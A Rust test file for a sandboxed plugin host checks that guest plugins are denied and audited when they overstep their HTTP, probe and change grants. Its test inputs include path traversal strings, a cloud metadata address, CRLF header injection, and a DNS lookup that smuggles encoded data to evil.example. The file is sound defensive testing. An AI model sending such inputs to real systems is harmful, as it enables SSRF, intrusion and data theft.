//! For every capability a guest that tries to get around its bounds. Each is denied, each denial is in the audit records
//! with the rule that decided, and nothing reaches the endpoint.

use std::sync::Arc;

use medic_core::permit::Ground;
use medic_host::Host;
use medic_ports::ToolHost;
use medic_ports::tools::{HostCallRecord, StepOutcome};

use crate::support::guest::{Guest, Step};
use crate::support::server::{Manner, Server};
use crate::support::{Notes, Setup, approved, permit, to_apply};

/// A reading guest, what it gets and the rule that said so.
struct Reach {
    name: &'static str,
    category: &'static str,
    make: fn(&mut Guest) -> String,
    functions: &'static str,
    code: &'static str,
    rule: &'static str,
}

const fn get(
    name: &'static str,
    make: fn(&mut Guest) -> String,
    code: &'static str,
    rule: &'static str,
) -> Reach {
    Reach { name, category: "query", make, functions: "\"http-read.send\"", code, rule }
}

const READS: [Reach; 16] = [
    get(
        "other-endpoint",
        |guest| guest.http_get("bank", "/config"),
        "ENDPOINT_NOT_GRANTED",
        "endpoint-not-granted",
    ),
    get("other-path", |guest| guest.http_get("shop", "/secrets"), "PATH_NOT_GRANTED", "path-not-granted"),
    get(
        "longer-path",
        |guest| guest.http_get("shop", "/config/secrets"),
        "PATH_NOT_GRANTED",
        "path-not-granted",
    ),
    get("dot-segments", |guest| guest.http_get("shop", "/flags/../secrets"), "PATH_MALFORMED", "path-form"),
    get(
        "encoded-dots",
        |guest| guest.http_get("shop", "/flags/%2e%2e/secrets"),
        "PATH_MALFORMED",
        "path-form",
    ),
    get(
        "encoded-slash",
        |guest| guest.http_get("shop", "/flags/..%2fsecrets"),
        "PATH_MALFORMED",
        "path-form",
    ),
    get("doubly-encoded", |guest| guest.http_get("shop", "/flags/%252e%252e"), "PATH_MALFORMED", "path-form"),
    get(
        "absolute-form",
        |guest| guest.http_get("shop", "http://169.254.169.254/latest"),
        "PATH_MALFORMED",
        "path-form",
    ),
    get(
        "other-authority",
        |guest| guest.http_get("shop", "//evil.example/config"),
        "PATH_MALFORMED",
        "path-form",
    ),
    get("smuggled-query", |guest| guest.http_get("shop", "/config?admin=1"), "PATH_MALFORMED", "path-form"),
    get(
        "header-injection",
        |guest| guest.http_get("shop", "/config HTTP/1.1\r\nHost: evil"),
        "PATH_MALFORMED",
        "path-form",
    ),
    get(
        "private-address",
        |guest| guest.http_get("inner", "/config"),
        "ADDRESS_REFUSED",
        "grant.http.inner[1]",
    ),
    Reach {
        name: "function-not-granted",
        category: "query",
        make: |guest| guest.metrics_query("up"),
        functions: "",
        code: "NOT_GRANTED",
        rule: "function-not-granted",
    },
    Reach {
        name: "probe-of-another",
        category: "diagnostic",
        make: |guest| guest.probe("tcp", "bank"),
        functions: "\"probe.tcp\"",
        code: "ENDPOINT_NOT_GRANTED",
        rule: "endpoint-not-granted",
    },
    Reach {
        name: "handshake-with-another",
        category: "diagnostic",
        make: |guest| guest.probe("tls", "bank"),
        functions: "\"probe.tls\"",
        code: "ENDPOINT_NOT_GRANTED",
        rule: "endpoint-not-granted",
    },
    Reach {
        name: "data-in-a-host-name",
        category: "diagnostic",
        make: |guest| guest.probe_dns("c2VjcmV0.evil.example"),
        functions: "\"probe.dns\"",
        code: "HOST_NOT_GRANTED",
        rule: "host-not-granted",
    },
];

fn grant(functions: &str, plugin: &str) -> String {
    format!(
        "functions = [{functions}]\n[[plugin.{plugin}.http.allow]]\nendpoints = [\"shop\"]\nmethods = [\"GET\"]\npaths = [\"/config\", \
         \"/flags/{{name}}\", \"/away\"]\n[[plugin.{plugin}.http.allow]]\nendpoints = [\"inner\"]\nmethods = [\"GET\"]\npaths = [\"/config\"]"
    )
}

fn last(host: &Host) -> HostCallRecord {
    host.take_host_calls().pop().expect("every decision leaves a record")
}

#[tokio::test]
async fn no_reading_guest_gets_around_its_grant() {
    let server = Server::start(Manner::Honest).await;
    let mut setup = Setup::new();
    setup.toml(&server.endpoint("shop", ""));
    // The same server by a name that resolves to this machine, which the operator has not vouched for.
    setup.toml(&format!("[endpoint.inner]\nbase = \"{}\"\n", server.base.replace("127.0.0.1", "localhost")));
    for (number, reach) in READS.iter().enumerate() {
        let mut guest = Guest::new(reach.category, &format!("reach_{number}"));
        let code = (reach.make)(&mut guest);
        guest.invoke(&code);
        setup.plugin(reach.name, reach.category, &guest.build(), &grant(reach.functions, reach.name));
    }
    let host = setup.open().await;
    for (number, reach) in READS.iter().enumerate() {
        let asked = permit(&host, &format!("reach_{number}"), "{}", Ground::Invoke);
        let fault = host.invoke(&asked).await.expect_err(reach.name);
        assert_eq!(fault.code, reach.code, "{}: {fault}", reach.name);
        let record = last(&host);
        assert_eq!((record.rule.as_str(), record.plugin.as_str()), (reach.rule, reach.name));
        // An address is judged behind the decision, when it is known; everything else is decided on and denied.
        assert_eq!(record.allowed, reach.code == "ADDRESS_REFUSED", "{}", reach.name);
    }
    assert_eq!(server.requests().len(), 0, "nothing left the host");
}

#[tokio::test]
async fn a_redirect_is_shown_and_never_followed() {
    let server = Server::start(Manner::Honest).await;
    let mut guest = Guest::new("query", "ask");
    let code = guest.http_get("shop", "/away");
    guest.invoke(&code);
    let mut setup = Setup::new();
    setup.toml(&server.endpoint("shop", ""));
    setup.toml(&server.endpoint("inner", ""));
    setup.plugin("ask", "query", &guest.build(), &grant("\"http-read.send\"", "ask"));
    let host = setup.open().await;
    host.invoke(&permit(&host, "ask", "{}", Ground::Invoke)).await.unwrap();
    let paths: Vec<_> = server.requests().into_iter().map(|seen| seen.path).collect();
    assert_eq!(paths, ["/away"]);
}

#[tokio::test]
async fn a_handshake_tells_what_was_presented_and_a_plain_port_has_none() {
    let server = Server::start(Manner::Honest).await;
    let mut guest = Guest::new("diagnostic", "ask");
    let code = guest.probe("tls", "shop");
    guest.invoke(&code);
    let mut setup = Setup::new();
    setup.toml(&server.endpoint("shop", ""));
    setup.toml(&server.endpoint("inner", ""));
    setup.plugin("ask", "diagnostic", &guest.build(), &grant("\"probe.tls\"", "ask"));
    let host = setup.open().await;
    let answer = host.invoke(&permit(&host, "ask", "{}", Ground::Invoke)).await.unwrap();
    assert!(answer.summary.contains("no TLS handshake"), "{}", answer.summary);
    assert_eq!(last(&host).rule, "grant.http.endpoint");
}

const NEW: &str = r#"{"timeout_ms":900}"#;
const PUT: Step<'_> = (1, "PUT", "shop", "/config", NEW);

/// A changing guest, what becomes of its step, and the rule that said so; none where no host call was decided on.
struct Deed {
    name: &'static str,
    plan: Option<fn(&mut Guest) -> String>,
    apply: fn(&mut Guest) -> String,
    code: &'static str,
    rule: Option<&'static str>,
    /// Changes that reached the endpoint.
    reached: usize,
}

fn put(guest: &mut Guest) -> String {
    guest.http_change(1, "shop", "/config", NEW)
}

const DEEDS: [Deed; 8] = [
    Deed {
        name: "forge-grant",
        plan: None,
        apply: |guest| {
            let call = guest.http_change_with(77, "shop", "/config", NEW);
            format!("{call} {}", put(guest))
        },
        code: "SANDBOX_TRAP",
        rule: None,
        reached: 0,
    },
    Deed {
        name: "kept-grant",
        plan: None,
        apply: |guest| format!("(call $drop (local.get $grant)) {}", put(guest)),
        code: "SANDBOX_TRAP",
        rule: None,
        reached: 0,
    },
    Deed {
        name: "second-use",
        plan: None,
        apply: |guest| format!("{}{}", put(guest), put(guest)),
        code: "OPERATIONS_EXHAUSTED",
        rule: Some("mutating-ops"),
        reached: 1,
    },
    Deed {
        name: "target-outside-plan",
        plan: None,
        apply: |guest| guest.http_change(1, "shop", "/other", NEW),
        code: "TARGET_OUTSIDE_PLAN",
        rule: Some("outside-plan"),
        reached: 0,
    },
    Deed {
        name: "method-outside-plan",
        plan: None,
        apply: |guest| guest.http_change(0, "shop", "/config", NEW),
        code: "TARGET_OUTSIDE_PLAN",
        rule: Some("outside-plan"),
        reached: 0,
    },
    Deed {
        name: "endpoint-outside-plan",
        plan: None,
        apply: |guest| guest.http_change(1, "bank", "/config", NEW),
        code: "TARGET_OUTSIDE_PLAN",
        rule: Some("outside-plan"),
        reached: 0,
    },
    Deed {
        name: "other-body",
        plan: None,
        apply: |guest| guest.http_change(1, "shop", "/config", r#"{"timeout_ms":1}"#),
        code: "BODY_OUTSIDE_PLAN",
        rule: Some("body-outside-plan"),
        reached: 0,
    },
    Deed {
        name: "grant-in-plan",
        plan: Some(|guest| guest.http_change_with(1, "shop", "/config", NEW)),
        apply: put,
        code: "SANDBOX_TRAP",
        rule: None,
        reached: 0,
    },
];

#[tokio::test]
async fn no_changing_guest_does_more_than_its_step() {
    for deed in &DEEDS {
        let server = Server::start(Manner::Honest).await;
        let mut guest = Guest::new("remediation", "mend");
        let (apply, before) = ((deed.apply)(&mut guest), deed.plan.map(|plan| plan(&mut guest)));
        guest.before_plan(&before.unwrap_or_default());
        guest.lifecycle(&[PUT], &apply, "");
        let mut setup = Setup::new();
        setup.toml(&server.endpoint("shop", ""));
        let grant = "functions = [\"http-change.send\"]\n[[plugin.mend.http.allow]]\nendpoints = [\"shop\"]\nmethods = [\"GET\", \
                     \"PUT\", \"POST\"]\npaths = [\"/config\", \"/other\"]\nundo = \"put-back\"";
        setup.plugin("mend", "remediation", &guest.build(), grant);
        let host = setup.open().await;
        let planned = host.plan(&permit(&host, "mend", "{}", Ground::Prepare)).await;
        let fault = match planned {
            Err(fault) => fault,
            Ok(plan) => {
                let approved = approved(&host, "mend", &plan);
                host.take_host_calls();
                let step = to_apply(&host, "mend", &approved, 1);
                match host.apply(&step, &plan, Arc::new(Notes::default())).await {
                    StepOutcome::Failed { fault, anything_done } => {
                        assert_eq!(anything_done, deed.reached > 0, "{}", deed.name);
                        fault
                    }
                    other => panic!("{}: {other:?}", deed.name),
                }
            }
        };
        assert_eq!(fault.code, deed.code, "{}: {fault}", deed.name);
        let records = host.take_host_calls();
        let denied: Vec<_> =
            records.iter().filter(|record| !record.allowed).map(|record| record.rule.as_str()).collect();
        assert_eq!(denied, deed.rule.into_iter().collect::<Vec<_>>(), "{}", deed.name);
        assert_eq!(server.changes().len(), deed.reached, "{}", deed.name);
    }
}
